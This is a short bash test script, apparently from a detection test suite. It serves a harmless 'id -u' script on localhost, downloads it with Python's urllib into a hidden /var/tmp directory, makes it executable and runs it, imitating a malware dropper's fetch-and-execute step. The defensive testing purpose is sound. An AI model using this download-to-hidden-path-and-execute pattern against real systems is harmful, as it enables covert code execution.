#!/bin/bash
# Variant: Python's urllib instead of curl, a shell script instead of a binary, a hidden
# directory under /var/tmp instead of /dev/shm.
. "$(dirname "$0")/../lib.sh"
need python3
mkdir -p "$WORK/www"
printf '#!/bin/sh\nid -u\n' > "$WORK/www/s"
support python3 -m http.server --bind 127.0.0.1 --directory "$WORK/www" "$PORT"
wait_port "$PORT"
mkdir -p "$FLUX_VARTMP/.cache"
python3 -c "
import os, urllib.request
target = os.path.join('$FLUX_VARTMP', '.cache', '.s')
urllib.request.urlretrieve('http://127.0.0.1:$PORT/s', target)
os.chmod(target, 0o755)
os.execv(target, [target])
"
